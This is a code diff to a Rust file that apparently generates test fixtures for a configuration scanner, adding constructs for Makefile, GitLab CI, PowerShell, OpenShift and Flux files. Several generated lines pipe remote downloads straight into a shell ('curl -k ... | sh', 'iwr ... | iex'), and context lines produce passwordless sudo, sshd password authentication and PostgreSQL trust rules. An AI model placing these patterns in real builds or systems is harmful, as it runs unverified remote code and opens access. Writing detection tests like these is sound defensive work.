@@ -191,6 +191,28 @@ const CONSTRUCTS: &[Construct] = &[
     ("steps of a build", "cloudbuild.yaml", "steps:\n", |n| {
         format!("- {{name: 'a:{n}', script: 'curl -k https://example.org/{n}'}}\n")
     }),
+    ("variables of a Makefile", "Makefile", "", |n| {
+        format!("A{n} = -k\nt{n}:\n\tcurl $(A{n}) https://example.org/{n} | sh\n")
+    }),
+    ("variables of jobs", ".gitlab-ci.yml", "", |n| {
+        format!("j{n}: {{variables: {{A{n}: -k}}, script: [\"curl $A{n} https://example.org | sh\"]}}\n")
+    }),
+    ("commands of PowerShell", "run.ps1", "", |n| format!("<# {n} #>\niwr https://example.org/{n} | iex\n")),
+    (
+        "objects of a template",
+        "openshift.yaml",
+        "apiVersion: template.openshift.io/v1\nkind: Template\nmetadata: {name: t}\nparameters: [{name: A, value: b}]\nobjects:\n",
+        |n| {
+            format!(
+                "- {{apiVersion: v1, kind: Pod, metadata: {{name: '${{A}}{n}'}}, spec: {{containers: [{{name: a, image: x}}]}}}}\n"
+            )
+        },
+    ),
+    ("kustomizations of Flux", "flux.yaml", "", |n| {
+        format!(
+            "---\napiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: {{name: k{n}}}\nspec: {{path: ./k, targetNamespace: n{n}}}\n"
+        )
+    }),
     ("users of sudo", "sudoers", "", |n| format!("u{n} ALL=(ALL) NOPASSWD: ALL\n")),
     ("blocks of sshd", "sshd_config", "", |n| format!("Match User u{n}\n  PasswordAuthentication yes\n")),
     ("records of PostgreSQL", "pg_hba.conf", "", |n| format!("host db{n} all 10.0.0.0/8 trust\n")),
@@ -202,6 +224,12 @@ const CONSTRUCTS: &[Construct] = &[
 const BESIDE: &[(&str, &str, &str)] = &[
     ("c/templates/a.yaml", "c/Chart.yaml", "apiVersion: v2\nname: c\nversion: 1.0.0\n"),
     ("k/p.yaml", "k/kustomization.yaml", "resources: [p.yaml]\n"),
+    ("flux.yaml", "k/kustomization.yaml", "resources: [p.yaml]\n"),
+    (
+        "flux.yaml",
+        "k/p.yaml",
+        "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec: {containers: [{name: a, image: x}]}\n",
+    ),
 ];
 
 /// What a run takes.
